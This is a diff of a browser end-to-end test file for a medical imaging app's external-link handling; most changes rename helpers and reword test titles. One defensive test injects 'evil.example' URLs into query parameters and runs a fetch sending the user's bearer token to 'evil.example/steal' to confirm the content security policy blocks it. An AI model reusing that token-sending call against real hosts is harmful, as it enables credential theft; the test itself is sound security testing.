@@ -23,8 +23,8 @@ beforeAll(async () => {
   product = await startProduct();
   browser = await launchBrowser();
   const reader = await apiReader(product, 'physician');
-  ada = await create(reader, '/patients', person('CF-1001', 'Verhoeven'));
-  await create(reader, '/patients', person('CF-1002', 'Rautio'));
+  ada = await create(reader, '/patients', patientFields('CF-1001', 'Verhoeven'));
+  await create(reader, '/patients', patientFields('CF-1002', 'Rautio'));
   study = await create(reader, '/studies', { patientId: ada.id, accessionNumber: 'ACC-77' });
 });
 afterAll(async () => {
@@ -32,7 +32,7 @@ afterAll(async () => {
   await product?.stop();
 });
 
-const person = (code: string, lastName: string) => ({
+const patientFields = (code: string, lastName: string) => ({
   code,
   lastName,
   firstName: 'Ismay',
@@ -48,8 +48,9 @@ async function create<T>(reader: ApiReader, path: string, body: object): Promise
 }
 
 /** Navigates to an address as if another program had opened the link. */
-const open = (page: Page, link: string) => page.goto(`${product.url}/${link}`);
-const hashIs = (page: Page, hash: string) => page.waitForURL((address) => address.hash === hash);
+const openLink = (page: Page, link: string) => page.goto(`${product.url}/${link}`);
+const waitForHash = (page: Page, hash: string) =>
+  page.waitForURL((address) => address.hash === hash);
 
 async function checkScreen(page: Page, name: string): Promise<void> {
   await page.getByRole('heading', { level: 1 }).waitFor();
@@ -66,8 +67,8 @@ describe('a valid link', () => {
       'external-link?action=openPatient&mrn=CF-1001',
       'IHEInvokeImageDisplay?requestType=PATIENT&patientID=CF-1001%5E%5E%5ENorth',
     ]) {
-      await open(page, link);
-      await hashIs(page, `#/patient-list?patient=${ada.id}`);
+      await openLink(page, link);
+      await waitForHash(page, `#/patient-list?patient=${ada.id}`);
       await page.getByRole('heading', { level: 2, name: /Verhoeven/ }).waitFor();
       await page.evaluate(() => {
         window.location.hash = '#/home';
@@ -80,19 +81,19 @@ describe('a valid link', () => {
 
   it('opens the study, after sign-in when needed', async () => {
     const { page, close } = await visit(browser);
-    await open(page, 'external-link?action=openStudy&accession=ACC-77&mrn=CF-1001');
+    await openLink(page, 'external-link?action=openStudy&accession=ACC-77&mrn=CF-1001');
     await page.getByLabel('E-mail').fill('viewer@demo.clockface.example');
     expect(page.url()).toContain('/#/login?redirect=%2Fexternal-link%3Faction%3DopenStudy');
     await page.getByLabel('Password', { exact: true }).fill(DEMO_PASSWORD);
     await page.getByRole('button', { name: 'Sign in' }).click();
-    await hashIs(page, `#/scan?study=${study.id}`);
+    await waitForHash(page, `#/scan?study=${study.id}`);
     await close();
   });
 
   it('reports that a patient has no study yet and offers to start a scan', async () => {
     const { page, close } = await visit(browser);
     await signIn(page, product.url, 'operator');
-    await open(page, '#/external-link?action=openPatient&mrn=CF-1002');
+    await openLink(page, '#/external-link?action=openPatient&mrn=CF-1002');
     await page.getByText('Ismay Rautio has no prior studies.').waitFor();
     await checkScreen(page, 'no-previous-studies');
     await page.getByRole('button', { name: 'Start scan' }).click();
@@ -105,16 +106,16 @@ describe('a valid link', () => {
 });
 
 describe('an invalid link', () => {
-  it('with an unknown record number leads to a search by name', async () => {
+  it('leads to a search by name when the record number is unknown', async () => {
     const { page, close } = await visit(browser);
     await signIn(page, product.url, 'physician');
-    await open(page, '#/external-link?action=openPatient&mrn=CF-9999');
-    await hashIs(page, '#/patient-not-found');
+    await openLink(page, '#/external-link?action=openPatient&mrn=CF-9999');
+    await waitForHash(page, '#/patient-not-found');
     await page.getByRole('heading', { name: 'Medical Record Not Found' }).waitFor();
     await page.getByText('The patient with the record number “CF-9999”').waitFor();
     await checkScreen(page, 'link-patient-not-found');
     await page.keyboard.press('Enter');
-    await hashIs(page, '#/patient-list');
+    await waitForHash(page, '#/patient-list');
     await page.getByRole('searchbox').waitFor();
     expect(await page.getByRole('searchbox').evaluate((element) => element.matches(':focus'))).toBe(
       true,
@@ -122,10 +123,10 @@ describe('an invalid link', () => {
     await close();
   });
 
-  it('with an unknown accession number leads to a search by date', async () => {
+  it('leads to a search by date when the accession number is unknown', async () => {
     const { page, close } = await visit(browser);
     await signIn(page, product.url, 'physician');
-    await open(page, 'external-link?action=openStudy&accession=ACC-00');
+    await openLink(page, 'external-link?action=openStudy&accession=ACC-00');
     await page.getByRole('heading', { name: 'Accession Number Not Found' }).waitFor();
     await checkScreen(page, 'link-study-not-found');
     await page.getByRole('button', { name: 'Search by Date' }).click();
@@ -133,11 +134,11 @@ describe('an invalid link', () => {
     await close();
   });
 
-  it('with the study of another patient shows both patients and lets the user decide', async () => {
+  it('shows both patients and lets the user decide when the study is of another patient', async () => {
     const { page, close } = await visit(browser);
     await signIn(page, product.url, 'physician');
     const link = '#/external-link?action=openStudy&accession=ACC-77&mrn=CF-1002';
-    await open(page, link);
+    await openLink(page, link);
     await page.getByRole('heading', { name: 'Patient Information Mismatch' }).waitFor();
     const card = page.getByRole('alert');
     for (const shown of ['Rautio, Ismay', 'CF-1002', 'Verhoeven, Ismay', 'CF-1001', 'ACC-77']) {
@@ -146,29 +147,31 @@ describe('an invalid link', () => {
     await checkScreen(page, 'link-mismatch');
     await page.getByRole('button', { name: 'Don’t open' }).click();
     await page.waitForURL((address) => address.hash.startsWith('#/patient-list'));
-    await open(page, link);
+    await openLink(page, link);
     await page.getByRole('button', { name: 'Confirm Patient Info' }).click();
-    await hashIs(page, `#/scan?study=${study.id}`);
+    await waitForHash(page, `#/scan?study=${study.id}`);
     await close();
   });
 
-  it('with an unknown action shows an error', async () => {
+  it('shows an error when the action is unknown', async () => {
     const { page, close } = await visit(browser);
     await signIn(page, product.url, 'physician');
-    await open(page, 'external-link?action=dropTables&mrn=CF-1001');
+    await openLink(page, 'external-link?action=dropTables&mrn=CF-1001');
     await page.getByRole('heading', { name: 'Failed to open the provided URL.' }).waitFor();
     await checkScreen(page, 'link-failed');
     await page.getByRole('button', { name: 'Go to Home' }).click();
-    await hashIs(page, '#/home');
+    await waitForHash(page, '#/home');
     await close();
   });
+});
 
-  it('is closed to blind annotators and discloses nothing to them', async () => {
+describe('a link opened by a blind annotator', () => {
+  it('is rejected and discloses nothing', async () => {
     const { page, close } = await visit(browser);
     const urls: string[] = [];
     page.on('request', (request) => urls.push(request.url()));
     await signIn(page, product.url, 'annotator');
-    await open(page, '#/external-link?action=openPatient&mrn=CF-1001');
+    await openLink(page, '#/external-link?action=openPatient&mrn=CF-1001');
     await page.getByText('Your role works without patient identities').waitFor();
     await checkScreen(page, 'link-blind');
     expect(await page.content()).not.toContain('Verhoeven');
@@ -178,7 +181,7 @@ describe('an invalid link', () => {
 });
 
 describe('the name and password in a link', () => {
-  it('fill in the form on the same machine, leave address and history, and are never submitted automatically', async () => {
+  it('fill in the form on the same machine, are removed from address and history, and are not submitted automatically', async () => {
     const { page, close } = await visit(browser);
     const sent: string[] = [];
     page.on('request', (request) =>
@@ -186,7 +189,7 @@ describe('the name and password in a link', () => {
     );
     const email = 'physician@demo.clockface.example';
     const query = `action=openPatient&mrn=CF-1001&username=${email}&password=${SECRET}`;
-    await open(page, `external-link?${query}`);
+    await openLink(page, `external-link?${query}`);
     await page.getByText('A link filled in this form').waitFor();
     expect(await page.getByLabel('E-mail').inputValue()).toBe(email);
     expect(await page.getByLabel('Password', { exact: true }).inputValue()).toBe(SECRET);
@@ -200,9 +203,9 @@ describe('the name and password in a link', () => {
     await page.getByRole('alert').waitFor();
     await page.getByLabel('Password', { exact: true }).fill(DEMO_PASSWORD);
     await page.getByRole('button', { name: 'Sign in' }).click();
-    await hashIs(page, `#/patient-list?patient=${ada.id}`);
+    await waitForHash(page, `#/patient-list?patient=${ada.id}`);
     expect(await page.evaluate(() => JSON.stringify(localStorage))).not.toContain(SECRET);
-    for (let back = 0; back < 3; back += 1) {
+    for (let steps = 0; steps < 3; steps += 1) {
       await page.goBack();
       expect(page.url()).not.toContain(SECRET);
     }
@@ -234,28 +237,28 @@ describe('an address with URLs of other hosts', () => {
     expect(token.length).toBeGreaterThan(20);
     const requests: { readonly url: string; readonly text: string }[] = [];
     await page.context().route('**/*', async (route) => {
-      const one = route.request();
-      requests.push({ url: one.url(), text: JSON.stringify(await one.allHeaders()) });
-      if (new URL(one.url()).origin === product.url) await route.continue();
+      const sent = route.request();
+      requests.push({ url: sent.url(), text: JSON.stringify(await sent.allHeaders()) });
+      if (new URL(sent.url()).origin === product.url) await route.continue();
       else await route.fulfill({ status: 200, body: '{}' });
     });
     const hostileUrl = encodeURIComponent('https://evil.example/config.json');
     const names = ['url', 'config', 'datasource', 'baseUrl', 'redirect'];
     const parameters = names.map((name) => `${name}=${hostileUrl}`).join('&');
     for (const address of [`?${parameters}#/home`, `#/home?${parameters}`]) {
-      await open(page, address);
+      await openLink(page, address);
       await page.getByText('Welcome, Phil').waitFor();
     }
-    await open(page, `#/external-link?action=openPatient&mrn=CF-1001&${parameters}`);
-    await hashIs(page, `#/patient-list?patient=${ada.id}`);
+    await openLink(page, `#/external-link?action=openPatient&mrn=CF-1001&${parameters}`);
+    await waitForHash(page, `#/patient-list?patient=${ada.id}`);
     await page.getByRole('heading', { level: 2, name: /Verhoeven/ }).waitFor();
     expect(requests.length).toBeGreaterThan(20);
     const foreignRequests = requests.filter(({ url }) => new URL(url).origin !== product.url);
     expect(foreignRequests.map(({ url }) => url)).toEqual([]);
-    // Shows that the check detects a sent token, and that the content security policy blocks other
-    // hosts.
+    // The check detects a sent token.
     expect(requests.some(({ text }) => text.includes(token))).toBe(true);
-    const blocked = await page.evaluate(async (bearer) => {
+    // The content security policy blocks other hosts.
+    const blockedBy = await page.evaluate(async (bearer) => {
       const violation = new Promise<string>((resolve) => {
         document.addEventListener('securitypolicyviolation', (event) =>
           resolve(event.effectiveDirective),
@@ -265,7 +268,7 @@ describe('an address with URLs of other hosts', () => {
       await fetch('https://evil.example/steal', { headers }).catch(() => undefined);
       return violation;
     }, token);
-    expect(blocked).toBe('connect-src');
+    expect(blockedBy).toBe('connect-src');
     expect(requests.some(({ url }) => url.includes('evil.example/steal'))).toBe(false);
     await close();
   });
